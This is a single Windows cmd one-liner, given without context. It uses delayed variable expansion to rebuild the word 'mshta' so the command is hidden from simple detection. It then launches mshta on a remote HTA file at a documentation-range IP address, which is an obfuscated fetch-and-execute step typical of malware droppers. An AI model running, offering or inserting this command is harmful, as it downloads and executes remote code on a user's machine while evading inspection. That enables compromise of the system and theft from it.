@cmd /v:on /c "set m=ms&&set h=hta&&set u=http://203.0.113.44/view.hta&&!m!!h! !u!"
